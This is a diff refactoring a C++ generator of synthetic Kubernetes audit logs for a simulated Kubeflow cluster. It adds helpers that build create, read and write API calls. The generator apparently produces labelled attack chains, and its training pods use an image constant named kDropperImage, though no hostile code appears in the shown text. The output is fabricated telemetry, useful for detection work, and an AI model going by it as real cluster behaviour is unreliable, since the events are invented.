@@ -147,22 +147,67 @@ std::string controller_agent(std::string_view sa) {
 
 enum class Level { automatic, metadata, request, request_response };
 
+// The object a call is about (the event's objectRef); ns empty = cluster-scoped, group empty = the
+// core group. Every member has an initializer so that designated initializers may leave any out
+// (GCC's -Wmissing-field-initializers).
+struct ObjectRef {
+  std::string resource{}, ns{}, name{}, group{}, version = "v1", sub{};
+};
+
 struct Call {
   const Actor* who = nullptr;
-  std::string verb;
-  std::string uri;
-  // objectRef; resource empty = a non-resource URL (no objectRef)
-  std::string resource, ns, name, group, version = "v1", sub;
+  std::string verb{};
+  std::string uri{};
+  ObjectRef object{};  // resource empty = a non-resource URL (no objectRef)
   int code = 200;
-  json request;   // requestObject (null: none)
-  json response;  // responseObject (null: none)
-  std::string reason;  // authorization.k8s.io/reason
+  json request = nullptr;   // requestObject (null: none)
+  json response = nullptr;  // responseObject (null: none)
+  std::string reason{};     // authorization.k8s.io/reason
   bool pod_security = false;
   std::string stage = "ResponseComplete";
   Level level = Level::automatic;
 };
 
 bool is_read(std::string_view verb) { return verb == "get" || verb == "list" || verb == "watch"; }
+
+// The path the API server serves `object` at: /api/v1 for the core group, /apis/<group>/<version>
+// for the others, then the namespace, the resource, and the name and subresource where given.
+std::string resource_path(const ObjectRef& object) {
+  std::string path = object.group.empty() ? "/api/" + object.version : "/apis/" + object.group + "/" + object.version;
+  if (!object.ns.empty()) path += "/namespaces/" + object.ns;
+  path += "/" + object.resource;
+  if (!object.name.empty()) path += "/" + object.name;
+  if (!object.sub.empty()) path += "/" + object.sub;
+  return path;
+}
+
+// A get, list or watch of `object`; `query` ("?limit=500") is appended to its path as is.
+Call read_call(const Actor& who, std::string verb, ObjectRef object, std::string reason, std::string_view query = {}) {
+  std::string uri = resource_path(object) + std::string(query);
+  return {.who = &who, .verb = std::move(verb), .uri = std::move(uri), .object = std::move(object),
+          .reason = std::move(reason)};
+}
+
+// A patch or update of an existing object: the request as sent, the object as stored after it.
+Call write_call(const Actor& who, std::string verb, ObjectRef object, json request, json response, std::string reason,
+                std::string_view query = {}) {
+  std::string uri = resource_path(object) + std::string(query);
+  return {.who = &who, .verb = std::move(verb), .uri = std::move(uri), .object = std::move(object),
+          .request = std::move(request), .response = std::move(response), .reason = std::move(reason)};
+}
+
+// A create, answered 201: POSTed to the collection (the name comes in the body), or to the named
+// object when it is a subresource (pods/binding, pods/exec). `sent_and_stored` is the request and
+// response object, as created() returns them.
+Call create_call(const Actor& who, ObjectRef object, std::pair<json, json> sent_and_stored, std::string reason,
+                 std::string_view query = {}) {
+  ObjectRef target = object;
+  if (target.sub.empty()) target.name.clear();
+  std::string uri = resource_path(target) + std::string(query);
+  return {.who = &who, .verb = "create", .uri = std::move(uri), .object = std::move(object), .code = 201,
+          .request = std::move(sent_and_stored.first), .response = std::move(sent_and_stored.second),
+          .reason = std::move(reason)};
+}
 
 const char* http_reason(int code) {
   switch (code) {
@@ -180,6 +225,8 @@ std::string sa_subject(const std::string& username) {
   const std::size_t ns_at = username.rfind(':', name_at - 1);
   return "ServiceAccount \"" + username.substr(name_at + 1) + "/" + username.substr(ns_at + 1, name_at - ns_at - 1) + "\"";
 }
+
+std::string user_subject(std::string_view username) { return "User \"" + std::string(username) + "\""; }
 
 std::string rbac_reason(std::string_view binding_kind, std::string_view binding, std::string_view role,
                         std::string_view subject) {
@@ -266,6 +313,15 @@ json pod_spec(json containers, const std::string& service_account, json node_sel
   return s;
 }
 
+// The container of a TFJob's worker (tf) or a PyTorchJob's master: the Kubeflow MNIST examples.
+json training_container(bool tf) {
+  return tf ? container("tensorflow", std::string(kDropperImage),
+                        json::array({"python", "/var/tf_mnist/mnist_with_summaries.py", "--log_dir=/train/logs"}),
+                        gpu_resources())
+            : container("pytorch", "docker.io/kubeflowkatib/pytorch-mnist:v1beta1-45c5727",
+                        json::array({"python3", "/opt/pytorch-mnist/mnist.py", "--epochs=1"}), gpu_resources());
+}
+
 json owner(const std::string& api_version, const std::string& kind, const std::string& name, const std::string& uid) {
   json o;
   o["apiVersion"] = api_version;
@@ -289,6 +345,9 @@ struct Namespace {
   std::string name;
   std::string owner_email;  // the profile owner
 };
+
+// The notebook server each user keeps running in their namespace: StatefulSet <name>, pod <name>-0.
+std::string user_notebook(std::string_view ns) { return ns == "kubeflow-alice" ? "alice-gpu-nb" : "bob-scipy"; }
 
 class Generator {
  public:
@@ -401,21 +460,21 @@ class Generator {
     ev["user"] = std::move(user);
     ev["sourceIPs"] = json::array({c.who->ip});
     ev["userAgent"] = c.who->agent;
-    if (!c.resource.empty()) {
+    if (!c.object.resource.empty()) {
       json ref;
-      ref["resource"] = c.resource;
-      if (!c.ns.empty()) ref["namespace"] = c.ns;
-      if (!c.name.empty()) ref["name"] = c.name;
-      if (!c.group.empty()) ref["apiGroup"] = c.group;
-      ref["apiVersion"] = c.version;
-      if (!c.sub.empty()) ref["subresource"] = c.sub;
+      ref["resource"] = c.object.resource;
+      if (!c.object.ns.empty()) ref["namespace"] = c.object.ns;
+      if (!c.object.name.empty()) ref["name"] = c.object.name;
+      if (!c.object.group.empty()) ref["apiGroup"] = c.object.group;
+      ref["apiVersion"] = c.object.version;
+      if (!c.object.sub.empty()) ref["subresource"] = c.object.sub;
       ev["objectRef"] = std::move(ref);
     }
     json status;
     status["metadata"] = json::object();
     if (c.code >= 400) {
       status["status"] = "Failure";
-      status["message"] = c.resource + " \"" + c.name + "\" is forbidden";
+      status["message"] = c.object.resource + " \"" + c.object.name + "\" is forbidden";
       status["reason"] = http_reason(c.code);
     }
     status["code"] = c.code;
@@ -471,20 +530,12 @@ class Generator {
     json pod_status;
     pod_status["phase"] = "Pending";
     pod_status["qosClass"] = "Burstable";
-    auto [req, resp] = created(std::move(request), name, ns, t, std::move(pod_status));
-    Call c;
-    c.who = &who;
-    c.verb = "create";
-    c.uri = "/api/v1/namespaces/" + ns + "/pods";
-    c.resource = "pods";
-    c.ns = ns;
-    if (!generate) c.name = name;
-    c.code = 201;
-    c.request = std::move(req);
-    c.response = std::move(resp);
-    c.reason = rbac_reason("ClusterRoleBinding", binding, role, sa_subject(who.username));
+    auto sent_and_stored = created(std::move(request), name, ns, t, std::move(pod_status));
+    std::string created_uid = sent_and_stored.second["metadata"]["uid"].get<std::string>();
+    // A generated name is not known to the request, so the objectRef has none.
+    Call c = create_call(who, {.resource = "pods", .ns = ns, .name = generate ? "" : name}, std::move(sent_and_stored),
+                         rbac_reason("ClusterRoleBinding", binding, role, sa_subject(who.username)));
     c.pod_security = true;
-    std::string created_uid = c.response["metadata"]["uid"].get<std::string>();
     emit(c, t, chain, step, std::move(rules));
     return created_uid;
   }
@@ -531,20 +582,34 @@ class Generator {
                     "default-editor", gpu_selector ? gpu_node_selector() : json(nullptr), nullptr, volumes);
   }
 
+  // alice's notebook servers run the GPU image with a GPU, bob's the CPU image; neither asks for a
+  // GPU node.
+  json user_notebook_pod_spec(const std::string& nb, bool alice) {
+    return notebook_pod_spec(nb, alice ? "gcr.io/kubeflow-images-public/tensorflow-2.1.0-notebook-gpu:1.0.0"
+                                       : "gcr.io/kubeflow-images-public/tensorflow-2.1.0-notebook-cpu:1.0.0",
+                             alice, false);
+  }
+
+  // Pod <nb>-0 of StatefulSet nb (uid sts_uid), created by the statefulset controller.
+  std::string statefulset_pod_create(const std::string& ns, const std::string& nb, const std::string& sts_uid,
+                                     json spec, std::int64_t t, int chain = -1, int step = 0,
+                                     std::vector<std::string> rules = {}) {
+    const std::string pod = nb + "-0";
+    return pod_create(ss_controller_, ns, pod, false,
+                      labels({{"app", nb},
+                              {"controller-revision-hash", nb + "-" + rng_.k8s_suffix(10)},
+                              {"notebook-name", nb},
+                              {"statefulset", nb},
+                              {"statefulset.kubernetes.io/pod-name", pod}}),
+                      owner("apps/v1", "StatefulSet", nb, sts_uid), std::move(spec), t,
+                      "system:controller:statefulset-controller", "system:controller:statefulset-controller", chain,
+                      step, std::move(rules));
+  }
+
   void ss_pod(std::int64_t t) {
     const Namespace& ns = rng_.pick(user_namespaces_);
-    const bool alice = ns.name == "kubeflow-alice";
-    const std::string nb = alice ? "alice-gpu-nb" : "bob-scipy";
-    const std::string image = alice ? "gcr.io/kubeflow-images-public/tensorflow-2.1.0-notebook-gpu:1.0.0"
-                                    : "gcr.io/kubeflow-images-public/tensorflow-2.1.0-notebook-cpu:1.0.0";
-    pod_create(ss_controller_, ns.name, nb + "-0", false,
-               labels({{"app", nb},
-                       {"controller-revision-hash", nb + "-" + rng_.k8s_suffix(10)},
-                       {"notebook-name", nb},
-                       {"statefulset", nb},
-                       {"statefulset.kubernetes.io/pod-name", nb + "-0"}}),
-               owner("apps/v1", "StatefulSet", nb, uid()), notebook_pod_spec(nb, image, alice, false), t,
-               "system:controller:statefulset-controller", "system:controller:statefulset-controller");
+    const std::string nb = user_notebook(ns.name);
+    statefulset_pod_create(ns.name, nb, uid(), user_notebook_pod_spec(nb, ns.name == "kubeflow-alice"), t);
   }
 
   void job_pod(std::int64_t t) {
@@ -577,20 +642,11 @@ class Generator {
     response["metadata"] = json::object();
     response["status"] = "Success";
     response["code"] = 201;
-    Call c;
-    c.who = &scheduler_;
-    c.verb = "create";
-    c.uri = "/api/v1/namespaces/" + ns + "/pods/" + pod + "/binding";
-    c.resource = "pods";
-    c.ns = ns;
-    c.name = pod;
-    c.sub = "binding";
-    c.code = 201;
-    c.request = std::move(request);
-    c.response = std::move(response);
-    c.reason = rbac_reason("ClusterRoleBinding", "system:kube-scheduler", "system:kube-scheduler",
-                           "User \"system:kube-scheduler\"");
-    emit(c, t);
+    emit(create_call(scheduler_, {.resource = "pods", .ns = ns, .name = pod, .sub = "binding"},
+                     {std::move(request), std::move(response)},
+                     rbac_reason("ClusterRoleBinding", "system:kube-scheduler", "system:kube-scheduler",
+                                 user_subject(scheduler_.username))),
+         t);
   }
 
   void kubelet_node_status(std::int64_t t, const Actor& node) {
@@ -619,16 +675,9 @@ class Generator {
     json capacity = quantity_map({{"cpu", "16"}, {"memory", "65842604Ki"}, {"pods", "110"}});
     if (gpu) capacity["nvidia.com/gpu"] = "4";
     response["status"] = json{{"capacity", capacity}, {"allocatable", capacity}, {"conditions", json::array({condition})}};
-    Call c;
-    c.who = &node;
-    c.verb = "patch";
-    c.uri = "/api/v1/nodes/" + name + "/status?timeout=10s";
-    c.resource = "nodes";
-    c.name = name;
-    c.sub = "status";
-    c.request = std::move(request);
-    c.response = std::move(response);
-    emit(c, t);
+    emit(write_call(node, "patch", {.resource = "nodes", .name = name, .sub = "status"}, std::move(request),
+                    std::move(response), "", "?timeout=10s"),
+         t);
   }
   void kubelet_node_status_any(std::int64_t t) { kubelet_node_status(t, rng_.pick(kubelets_)); }
 
@@ -641,7 +690,7 @@ class Generator {
 
   void kubelet_pod_status(std::int64_t t, const Actor& node) {
     const Namespace& ns = rng_.pick(user_namespaces_);
-    const std::string pod = (ns.name == "kubeflow-alice" ? "alice-gpu-nb-0" : "bob-scipy-0");
+    const std::string pod = user_notebook(ns.name) + "-0";
     json cond;
     cond["lastProbeTime"] = nullptr;
     cond["lastTransitionTime"] = rfc3339(t, 0);
@@ -656,17 +705,9 @@ class Generator {
     response["metadata"] = json{{"name", pod}, {"namespace", ns.name}, {"uid", request["metadata"]["uid"]},
                                 {"resourceVersion", std::to_string(next_rv())}};
     response["status"] = json{{"conditions", json::array({cond})}, {"phase", "Running"}, {"qosClass", "Burstable"}};
-    Call c;
-    c.who = &node;
-    c.verb = "patch";
-    c.uri = "/api/v1/namespaces/" + ns.name + "/pods/" + pod + "/status";
-    c.resource = "pods";
-    c.ns = ns.name;
-    c.name = pod;
-    c.sub = "status";
-    c.request = std::move(request);
-    c.response = std::move(response);
-    emit(c, t);
+    emit(write_call(node, "patch", {.resource = "pods", .ns = ns.name, .name = pod, .sub = "status"},
+                    std::move(request), std::move(response), ""),
+         t);
   }
   void kubelet_pod_status_any(std::int64_t t) { kubelet_pod_status(t, rng_.pick(kubelets_)); }
 
@@ -676,14 +717,7 @@ class Generator {
     static const std::vector<std::string> secrets = {"mlpipeline-minio-artifact", "istio-ca-root-cert", "default-editor-token"};
     static const std::vector<std::string> configmaps = {"kube-root-ca.crt", "istio-ca-root-cert", "kfp-launcher"};
     const std::string name = rng_.pick(secret ? secrets : configmaps);
-    Call c;
-    c.who = &node;
-    c.verb = "get";
-    c.resource = secret ? "secrets" : "configmaps";
-    c.uri = "/api/v1/namespaces/" + ns + "/" + c.resource + "/" + name;
-    c.ns = ns;
-    c.name = name;
-    emit(c, t);
+    emit(read_call(node, "get", {.resource = secret ? "secrets" : "configmaps", .ns = ns, .name = name}, ""), t);
   }
   void kubelet_get_any(std::int64_t t) { kubelet_get(t, rng_.pick(kubelets_), rng_.chance(50)); }
 
@@ -702,18 +736,12 @@ class Generator {
     request["spec"] = spec;
     json response = request;
     response["metadata"]["resourceVersion"] = std::to_string(next_rv());
-    Call c;
-    c.who = &who;
-    c.verb = "update";
-    c.uri = "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/" + lease + "?timeout=5s";
-    c.resource = "leases";
-    c.ns = "kube-system";
-    c.name = lease;
-    c.group = "coordination.k8s.io";
-    c.request = std::move(request);
-    c.response = std::move(response);
-    c.reason = rbac_reason("ClusterRoleBinding", "system:" + lease, "system:" + lease, "User \"" + who.username + "\"");
-    emit(c, t);
+    emit(write_call(who, "update",
+                    {.resource = "leases", .ns = "kube-system", .name = lease, .group = "coordination.k8s.io"},
+                    std::move(request), std::move(response),
+                    rbac_reason("ClusterRoleBinding", "system:" + lease, "system:" + lease, user_subject(who.username)),
+                    "?timeout=5s"),
+         t);
   }
   const std::string& lease_uid(const std::string& name) { return node_uid("lease/" + name); }
   void lease_kcm(std::int64_t t) { lease_update(t, kcm_, "kube-controller-manager"); }
@@ -733,27 +761,27 @@ class Generator {
     return n;
   }
 
+  std::string jwa_reason() const {
+    return rbac_reason("ClusterRoleBinding", "jupyter-web-app-binding", "jupyter-web-app-cluster-role",
+                       sa_subject(jwa_.username));
+  }
+
+  // The Jupyter web app creates Notebook nb for `creator`. stored_uid, when given, replaces the uid
+  // the API server assigns (an attack chain needs it earlier, for the StatefulSet's owner).
+  void notebook_create(const std::string& ns, const std::string& nb, const std::string& creator, json pod,
+                       std::int64_t t, const std::string& stored_uid = {}, int chain = -1, int step = 0,
+                       std::vector<std::string> rules = {}) {
+    auto [req, resp] = created(notebook_object(nb, ns, creator, std::move(pod)), nb, ns, t);
+    if (!stored_uid.empty()) resp["metadata"]["uid"] = stored_uid;
+    emit(create_call(jwa_, {.resource = "notebooks", .ns = ns, .name = nb, .group = "kubeflow.org"},
+                     {std::move(req), std::move(resp)}, jwa_reason()),
+         t, chain, step, std::move(rules));
+  }
+
   void jwa_notebook(std::int64_t t, const Namespace& ns) {
     const bool alice = ns.name == "kubeflow-alice";
     const std::string nb = (alice ? "alice-nb-" : "bob-nb-") + rng_.k8s_suffix(4);
-    json pod = notebook_pod_spec(nb, alice ? "gcr.io/kubeflow-images-public/tensorflow-2.1.0-notebook-gpu:1.0.0"
-                                           : "gcr.io/kubeflow-images-public/tensorflow-2.1.0-notebook-cpu:1.0.0",
-                                 alice, false);
-    auto [req, resp] = created(notebook_object(nb, ns.name, ns.owner_email, std::move(pod)), nb, ns.name, t);
-    Call c;
-    c.who = &jwa_;
-    c.verb = "create";
-    c.uri = "/apis/kubeflow.org/v1/namespaces/" + ns.name + "/notebooks";
-    c.resource = "notebooks";
-    c.ns = ns.name;
-    c.name = nb;
-    c.group = "kubeflow.org";
-    c.code = 201;
-    c.request = std::move(req);
-    c.response = std::move(resp);
-    c.reason = rbac_reason("ClusterRoleBinding", "jupyter-web-app-binding", "jupyter-web-app-cluster-role",
-                           "ServiceAccount \"jupyter-web-app-service-account/kubeflow\"");
-    emit(c, t);
+    notebook_create(ns.name, nb, ns.owner_email, user_notebook_pod_spec(nb, alice), t);
   }
   void jwa_notebook_any(std::int64_t t) { jwa_notebook(t, rng_.pick(user_namespaces_)); }
 
@@ -762,28 +790,18 @@ class Generator {
     static const std::vector<std::pair<std::string, std::string>> what = {
         {"notebooks", "kubeflow.org"}, {"poddefaults", "kubeflow.org"}, {"persistentvolumeclaims", ""}, {"events", ""}};
     const auto& [resource, group] = rng_.pick(what);
-    Call c;
-    c.who = &jwa_;
-    c.verb = "list";
-    c.uri = (group.empty() ? "/api/v1" : "/apis/" + group + (resource == "poddefaults" ? "/v1alpha1" : "/v1")) +
-            "/namespaces/" + ns.name + "/" + resource;
-    c.resource = resource;
-    c.ns = ns.name;
-    c.group = group;
-    c.version = resource == "poddefaults" ? "v1alpha1" : "v1";
-    c.reason = rbac_reason("ClusterRoleBinding", "jupyter-web-app-binding", "jupyter-web-app-cluster-role",
-                           "ServiceAccount \"jupyter-web-app-service-account/kubeflow\"");
-    emit(c, t);
+    emit(read_call(jwa_, "list",
+                   {.resource = resource, .ns = ns.name, .group = group,
+                    .version = resource == "poddefaults" ? "v1alpha1" : "v1"},
+                   jwa_reason()),
+         t);
   }
 
   void notebook_statefulset(std::int64_t t) {
     const Namespace& ns = rng_.pick(user_namespaces_);
-    const bool alice = ns.name == "kubeflow-alice";
-    const std::string nb = alice ? "alice-gpu-nb" : "bob-scipy";
-    json pod = notebook_pod_spec(nb, alice ? "gcr.io/kubeflow-images-public/tensorflow-2.1.0-notebook-gpu:1.0.0"
-                                           : "gcr.io/kubeflow-images-public/tensorflow-2.1.0-notebook-cpu:1.0.0",
-                                 alice, false);
-    statefulset_create(notebook_controller_, ns.name, nb, uid(), std::move(pod), t);
+    const std::string nb = user_notebook(ns.name);
+    statefulset_create(notebook_controller_, ns.name, nb, uid(),
+                       user_notebook_pod_spec(nb, ns.name == "kubeflow-alice"), t);
   }
 
   std::string statefulset_create(const Actor& who, const std::string& ns, const std::string& nb, const std::string& notebook_uid,
@@ -808,22 +826,13 @@ class Generator {
     spec["updateStrategy"] = json{{"type", "RollingUpdate"}};
     sts["spec"] = std::move(spec);
     sts["status"] = json{{"replicas", 0}, {"availableReplicas", 0}};
-    auto [req, resp] = created(std::move(sts), nb, ns, t, json{{"replicas", 0}, {"availableReplicas", 0}});
-    Call c;
-    c.who = &who;
-    c.verb = "create";
-    c.uri = "/apis/apps/v1/namespaces/" + ns + "/statefulsets";
-    c.resource = "statefulsets";
-    c.ns = ns;
-    c.name = nb;
-    c.group = "apps";
-    c.code = 201;
-    c.request = std::move(req);
-    c.response = std::move(resp);
-    c.reason = rbac_reason("ClusterRoleBinding", "notebook-controller-role-binding", "notebook-controller-role",
-                           "ServiceAccount \"notebook-controller-service-account/kubeflow\"");
-    std::string created_uid = c.response["metadata"]["uid"].get<std::string>();
-    emit(c, t, chain, step, std::move(rules));
+    auto sent_and_stored = created(std::move(sts), nb, ns, t, json{{"replicas", 0}, {"availableReplicas", 0}});
+    std::string created_uid = sent_and_stored.second["metadata"]["uid"].get<std::string>();
+    emit(create_call(who, {.resource = "statefulsets", .ns = ns, .name = nb, .group = "apps"},
+                     std::move(sent_and_stored),
+                     rbac_reason("ClusterRoleBinding", "notebook-controller-role-binding", "notebook-controller-role",
+                                 sa_subject(who.username))),
+         t, chain, step, std::move(rules));
     return created_uid;
   }
 
@@ -833,12 +842,7 @@ class Generator {
     const std::string job = (tf ? "mnist-" : "pytorch-simple-") + rng_.k8s_suffix(5);
     const std::string replica = tf ? "worker" : "master";
     const std::string pod = job + "-" + replica + "-0";
-    json c1 = tf ? container("tensorflow", std::string(kDropperImage),
-                             json::array({"python", "/var/tf_mnist/mnist_with_summaries.py", "--log_dir=/train/logs"}),
-                             gpu_resources())
-                 : container("pytorch", "docker.io/kubeflowkatib/pytorch-mnist:v1beta1-45c5727",
-                             json::array({"python3", "/opt/pytorch-mnist/mnist.py", "--epochs=1"}), gpu_resources());
-    json spec = pod_spec(json::array({std::move(c1)}), "default", gpu_node_selector());
+    json spec = pod_spec(json::array({training_container(tf)}), "default", gpu_node_selector());
     spec["restartPolicy"] = "Never";
     json l = labels({{"training.kubeflow.org/job-name", job},
                      {"training.kubeflow.org/operator-name", tf ? "tfjob-controller" : "pytorchjob-controller"},
@@ -883,20 +887,13 @@ class Generator {
     w["spec"] = json{{"entrypoint", "entrypoint"}, {"serviceAccountName", "pipeline-runner"},
                      {"templates", json::array({std::move(tmpl)})}};
     w["status"] = json::object();
-    auto [req, resp] = created(std::move(w), wf, ns.name, t, json::object());
-    Call c;
-    c.who = &ml_pipeline_;
-    c.verb = "create";
-    c.uri = "/apis/argoproj.io/v1alpha1/namespaces/" + ns.name + "/workflows";
-    c.resource = "workflows";
-    c.ns = ns.name;
-    c.group = "argoproj.io";
-    c.version = "v1alpha1";
-    c.code = 201;
-    c.request = std::move(req);
-    c.response = std::move(resp);
-    c.reason = rbac_reason("ClusterRoleBinding", "ml-pipeline", "ml-pipeline", "ServiceAccount \"ml-pipeline/kubeflow\"");
-    emit(c, t);
+    // generateName: the objectRef has no name.
+    emit(create_call(ml_pipeline_,
+                     {.resource = "workflows", .ns = ns.name, .group = "argoproj.io", .version = "v1alpha1"},
+                     created(std::move(w), wf, ns.name, t, json::object()),
+                     rbac_reason("ClusterRoleBinding", "ml-pipeline", "ml-pipeline",
+                                 sa_subject(ml_pipeline_.username))),
+         t);
   }
 
   void profile_namespace(std::int64_t t, const std::string& ns, const std::string& owner_email) {
@@ -915,40 +912,29 @@ class Generator {
     n["status"] = json::object();
     auto [req, resp] = created(std::move(n), ns, "", t, json{{"phase", "Active"}});
     resp["spec"] = json{{"finalizers", json::array({"kubernetes"})}};
-    Call c;
-    c.who = &profiles_;
-    c.verb = "create";
-    c.uri = "/api/v1/namespaces";
-    c.resource = "namespaces";
-    c.name = ns;
-    c.code = 201;
-    c.request = std::move(req);
-    c.response = std::move(resp);
-    c.reason = rbac_reason("ClusterRoleBinding", "profiles-cluster-rolebinding", "cluster-admin",
-                           "ServiceAccount \"profiles-controller-service-account/kubeflow\"");
-    emit(c, t);
+    emit(create_call(profiles_, {.resource = "namespaces", .name = ns}, {std::move(req), std::move(resp)},
+                     profiles_reason()),
+         t);
+  }
+
+  std::string profiles_reason() const {
+    return rbac_reason("ClusterRoleBinding", "profiles-cluster-rolebinding", "cluster-admin",
+                       sa_subject(profiles_.username));
   }
 
   void profiles_read(std::int64_t t) {
-    Call c;
-    c.who = &profiles_;
-    c.verb = "get";
-    if (rng_.chance(50)) {
-      const Namespace& ns = rng_.pick(user_namespaces_);
-      c.resource = "rolebindings";
-      c.group = "rbac.authorization.k8s.io";
-      c.ns = ns.name;
-      c.name = "namespaceAdmin";
-      c.uri = "/apis/rbac.authorization.k8s.io/v1/namespaces/" + ns.name + "/rolebindings/namespaceAdmin";
-    } else {
-      c.resource = "profiles";
-      c.group = "kubeflow.org";
-      c.name = rng_.pick(user_namespaces_).name;
-      c.uri = "/apis/kubeflow.org/v1/profiles/" + c.name;
-    }
-    c.reason = rbac_reason("ClusterRoleBinding", "profiles-cluster-rolebinding", "cluster-admin",
-                           "ServiceAccount \"profiles-controller-service-account/kubeflow\"");
-    emit(c, t);
+    ObjectRef object;
+    if (rng_.chance(50))
+      object = {.resource = "rolebindings", .ns = rng_.pick(user_namespaces_).name, .name = "namespaceAdmin",
+                .group = "rbac.authorization.k8s.io"};
+    else
+      object = {.resource = "profiles", .name = rng_.pick(user_namespaces_).name, .group = "kubeflow.org"};
+    emit(read_call(profiles_, "get", std::move(object), profiles_reason()), t);
+  }
+
+  // A profile owner (alice, bob) in their own namespace.
+  static std::string namespace_admin_reason(const Actor& who, const std::string& ns) {
+    return rbac_reason("RoleBinding", "namespaceAdmin/" + ns, "kubeflow-admin", user_subject(who.username));
   }
 
   void user_read(std::int64_t t, const Actor& who) {
@@ -962,46 +948,32 @@ class Generator {
                                            {"notebooks", "kubeflow.org", "v1"}, {"pytorchjobs", "kubeflow.org", "v1"},
                                            {"services", "", "v1"},      {"persistentvolumeclaims", "", "v1"}};
     const What& w = rng_.pick(what);
-    Call c;
-    c.who = &who;
     const auto r = rng_.below(10);
-    c.verb = r < 6 ? "list" : r < 9 ? "get" : "watch";
-    c.resource = w.resource;
-    c.group = w.group;
-    c.version = w.version;
-    c.ns = ns;
-    const std::string base = (c.group.empty() ? std::string("/api/v1") : "/apis/" + c.group + "/" + c.version) +
-                             "/namespaces/" + ns + "/" + c.resource;
-    if (c.verb == "get") {
-      const std::string nb = ns == "kubeflow-alice" ? "alice-gpu-nb" : "bob-scipy";
-      if (c.resource == "pods") c.name = nb + "-0";
-      else if (c.resource == "notebooks") c.name = nb;
-      else if (c.resource == "persistentvolumeclaims") c.name = nb + "-volume";
-      else if (c.resource == "services") c.name = nb;
-      else c.name = (c.resource == "tfjobs" ? "mnist-" : "pytorch-simple-") + rng_.k8s_suffix(5);
-      c.uri = base + "/" + c.name;
-    } else if (c.verb == "list") {
-      c.uri = base + "?limit=500";
+    const std::string verb = r < 6 ? "list" : r < 9 ? "get" : "watch";
+    ObjectRef object{.resource = w.resource, .ns = ns, .group = w.group, .version = w.version};
+    std::string query;
+    if (verb == "get") {
+      const std::string nb = user_notebook(ns);
+      if (object.resource == "pods") object.name = nb + "-0";
+      else if (object.resource == "notebooks") object.name = nb;
+      else if (object.resource == "persistentvolumeclaims") object.name = nb + "-volume";
+      else if (object.resource == "services") object.name = nb;
+      else object.name = (object.resource == "tfjobs" ? "mnist-" : "pytorch-simple-") + rng_.k8s_suffix(5);
+    } else if (verb == "list") {
+      query = "?limit=500";
     } else {
-      c.uri = base + "?allowWatchBookmarks=true&resourceVersion=" + std::to_string(resource_version_) +
+      query = "?allowWatchBookmarks=true&resourceVersion=" + std::to_string(resource_version_) +
               "&timeoutSeconds=331&watch=true";
     }
-    c.reason = "RBAC: allowed by RoleBinding \"namespaceAdmin/" + ns + "\" of ClusterRole \"kubeflow-admin\" to User \"" +
-               who.username + "\"";
-    emit(c, t);
+    emit(read_call(who, verb, std::move(object), namespace_admin_reason(who, ns), query), t);
   }
   void user_read_any(std::int64_t t) { user_read(t, rng_.chance(50) ? alice_ : bob_); }
 
   void user_training_job(std::int64_t t, const Actor& who, bool tf) {
     const std::string ns = who.username == alice_.username ? "kubeflow-alice" : "kubeflow-bob";
     const std::string job = (tf ? "mnist-" : "pytorch-simple-") + rng_.k8s_suffix(5);
-    json c1 = tf ? container("tensorflow", std::string(kDropperImage),
-                             json::array({"python", "/var/tf_mnist/mnist_with_summaries.py", "--log_dir=/train/logs"}),
-                             gpu_resources())
-                 : container("pytorch", "docker.io/kubeflowkatib/pytorch-mnist:v1beta1-45c5727",
-                             json::array({"python3", "/opt/pytorch-mnist/mnist.py", "--epochs=1"}), gpu_resources());
     json tmpl;
-    tmpl["spec"] = json{{"containers", json::array({std::move(c1)})}, {"nodeSelector", gpu_node_selector()}};
+    tmpl["spec"] = json{{"containers", json::array({training_container(tf)})}, {"nodeSelector", gpu_node_selector()}};
     json replica;
     replica["replicas"] = tf ? 2 : 1;
     replica["restartPolicy"] = "OnFailure";
@@ -1012,33 +984,19 @@ class Generator {
     obj["metadata"] = json{{"name", job}, {"namespace", ns}};
     obj["spec"] = tf ? json{{"tfReplicaSpecs", json{{"Worker", std::move(replica)}}}}
                      : json{{"pytorchReplicaSpecs", json{{"Master", std::move(replica)}}}};
-    auto [req, resp] = created(std::move(obj), job, ns, t);
-    Call c;
-    c.who = &who;
-    c.verb = "create";
-    c.resource = tf ? "tfjobs" : "pytorchjobs";
-    c.uri = "/apis/kubeflow.org/v1/namespaces/" + ns + "/" + c.resource + "?fieldManager=kubectl-client-side-apply";
-    c.ns = ns;
-    c.name = job;
-    c.group = "kubeflow.org";
-    c.code = 201;
-    c.request = std::move(req);
-    c.response = std::move(resp);
-    c.reason = "RBAC: allowed by RoleBinding \"namespaceAdmin/" + ns + "\" of ClusterRole \"kubeflow-admin\" to User \"" +
-               who.username + "\"";
-    emit(c, t);
+    emit(create_call(who, {.resource = tf ? "tfjobs" : "pytorchjobs", .ns = ns, .name = job, .group = "kubeflow.org"},
+                     created(std::move(obj), job, ns, t), namespace_admin_reason(who, ns),
+                     "?fieldManager=kubectl-client-side-apply"),
+         t);
   }
   void user_tfjob_any(std::int64_t t) { user_training_job(t, rng_.chance(50) ? alice_ : bob_, true); }
   void user_pytorchjob_any(std::int64_t t) { user_training_job(t, rng_.chance(50) ? alice_ : bob_, false); }
 
   void probe(std::int64_t t, const std::string& path) {
-    Call c;
-    c.who = &probe_;
-    c.verb = "get";
-    c.uri = path;
-    c.reason = rbac_reason("ClusterRoleBinding", "system:public-info-viewer", "system:public-info-viewer",
-                           "Group \"system:unauthenticated\"");
-    emit(c, t);
+    emit({.who = &probe_, .verb = "get", .uri = path,
+          .reason = rbac_reason("ClusterRoleBinding", "system:public-info-viewer", "system:public-info-viewer",
+                                "Group \"system:unauthenticated\"")},
+         t);
   }
   void probe_any(std::int64_t t) {
     static const std::vector<std::string> paths = {"/healthz", "/version", "/readyz", "/livez"};
@@ -1046,24 +1004,8 @@ class Generator {
   }
 
   void admin_read(std::int64_t t) {
-    Call c;
-    c.who = &admin_;
-    const auto r = rng_.below(3);
-    if (r == 0) {
-      c.verb = "list";
-      c.resource = "nodes";
-      c.uri = "/api/v1/nodes?limit=500";
-    } else if (r == 1) {
-      c.verb = "list";
-      c.resource = "namespaces";
-      c.uri = "/api/v1/namespaces?limit=500";
-    } else {
-      c.verb = "list";
-      c.resource = "pods";
-      c.uri = "/api/v1/pods?limit=500";
-    }
-    c.reason = "";
-    emit(c, t);
+    static const std::vector<std::string> resources = {"nodes", "namespaces", "pods"};
+    emit(read_call(admin_, "list", {.resource = rng_.pick(resources)}, "", "?limit=500"), t);
   }
 
   void benign() {
@@ -1200,83 +1142,41 @@ class Generator {
